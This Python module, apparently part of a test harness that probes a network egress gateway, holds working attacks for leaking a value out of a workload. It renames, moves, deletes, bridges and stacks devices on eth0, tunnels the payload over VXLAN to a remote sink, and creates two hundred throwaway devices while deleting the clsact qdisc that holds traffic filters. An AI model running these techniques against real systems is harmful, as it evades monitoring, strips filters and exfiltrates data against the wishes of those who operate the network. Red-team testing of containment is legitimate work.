"""The workload's device renamed, moved away, deleted, or joined by others.

`way`:
    rename   eth0 gets another name, and back
    move     eth0 is moved to a namespace made inside, used there, and lost with it
    delete   eth0 is deleted; as with `move`, the host's new one is used at once
    down-up  eth0 is set down and up
    bridge   eth0 becomes a port of a bridge made inside
    macvlan  a macvlan on eth0 carries the value
    vlan     a VLAN on eth0 carries it (a kernel without 802.1Q cannot)
    vxlan    a vxlan tunnel over eth0 carries it, in one datagram
    churn    two hundred devices come and go while the value is sent
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable

from attacks.connection import leak, leak_in_halves
from attacks.inner import Inner, addresses, configure, run
from attacks.target import Impossible, Target

NEW_DEVICE_PATIENCE = 12.0
VXLAN_PORT = 4789
CHURN = 200


def rename(target: Target) -> int:
    """Under another name, and under its own again."""
    known = addresses(target.device)
    through = 0
    for old, new in ((target.device, "uplink9"), ("uplink9", target.device)):
        run("ip", "link", "set", old, "down")
        run("ip", "link", "set", old, "name", new)
        configure(target, new, known)
        through += leak(target)
    return through


def move(target: Target) -> None:
    """In a namespace made inside, where no gateway has looked."""
    known = addresses(target.device)

    def send() -> None:
        run("ip", "link", "set", "lo", "up")
        configure(target, target.device, known)
        leak(target)
        leak_in_halves(target)

    with Inner.with_work(send) as inner:
        run("ip", "link", "set", target.device, "netns", str(inner.pid))
        inner.next()
    anew(target, known)  # the device has gone with its namespace


def anew(target: Target, known: list[str]) -> None:
    """Send over the device that the host makes, as soon as it is there.

    Raises:
        Impossible: it makes none.
    """
    end = time.monotonic() + NEW_DEVICE_PATIENCE
    while time.monotonic() < end:
        with contextlib.suppress(OSError, Impossible):
            socket.if_nametoindex(target.device)
            configure(target, target.device, known)
            break
        time.sleep(0.001)
    else:
        raise Impossible("the host made no new device")
    for _ in range(4):
        leak(target, patience=0.3)


def delete(target: Target) -> None:
    """Gone, with its host end. The host makes another one."""
    known = addresses(target.device)
    run("ip", "link", "del", target.device)
    anew(target, known)


def down_up(target: Target) -> int:
    """Set down and up, with what was queued."""
    known = addresses(target.device)
    run("ip", "link", "set", target.device, "down")
    configure(target, target.device, known)
    return leak(target) + leak_in_halves(target)


def bridge(target: Target) -> int:
    """The addresses on a bridge, eth0 its port."""
    known = addresses(target.device)
    run("ip", "link", "add", "br9", "type", "bridge")
    run("ip", "addr", "flush", "dev", target.device)
    run("ip", "link", "set", target.device, "master", "br9")
    configure(target, "br9", known)
    try:
        return leak(target) + leak_in_halves(target)
    finally:
        run("ip", "link", "del", "br9", check=False)
        configure(target, target.device, known)


def on_top(target: Target, *kind: str) -> int:
    """The addresses on a device over eth0."""
    known = addresses(target.device)
    run("ip", "link", "add", "link", target.device, "name", "top9", *kind)
    run("ip", "addr", "flush", "dev", target.device)
    configure(target, "top9", known)
    try:
        return leak(target) + leak_in_halves(target)
    finally:
        run("ip", "link", "del", "top9", check=False)
        configure(target, target.device, known)


def vxlan(target: Target) -> int:
    """A tunnel to the sink's machine; whoever reads datagrams there reads the value."""
    remote = ("remote", target.address, "dstport", str(target.port), "id", "9")
    run("ip", "link", "add", "vx9", "type", "vxlan", *remote, "dev", target.device)
    try:
        run("ip", "addr", "add", "192.0.2.1/24", "dev", "vx9")
        run("ip", "link", "set", "vx9", "up")
        far = ("192.0.2.2", "lladdr", "02:00:00:00:00:09", "dev", "vx9", "nud", "permanent")
        run("ip", "neigh", "add", *far)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
            for _ in range(3):
                made.sendto(target.payload, ("192.0.2.2", 9))
    finally:
        run("ip", "link", "del", "vx9", check=False)
    return 3


def churn(target: Target) -> int:
    """Devices come and go to keep a watcher busy; the value is sent meanwhile."""
    through = 0
    for number in range(CHURN):
        name = f"churn{number}"
        run("ip", "link", "add", name, "type", "veth", "peer", "name", f"x{name}")
        run("ip", "link", "set", name, "up")
        if number % 20 == 0:
            run("tc", "qdisc", "del", "dev", target.device, "clsact", check=False)
            through += leak(target, patience=0.05)
        run("ip", "link", "del", name)
    return through


WAYS: dict[str, Callable[[Target], object]] = {
    "rename": rename,
    "move": move,
    "delete": delete,
    "down-up": down_up,
    "bridge": bridge,
    "macvlan": lambda target: on_top(target, "type", "macvlan", "mode", "bridge"),
    "vlan": lambda target: on_top(target, "type", "vlan", "id", "9"),
    "vxlan": vxlan,
    "churn": churn,
}


def main(target: Target) -> None:
    """One way."""
    WAYS[target.args["way"]](target)
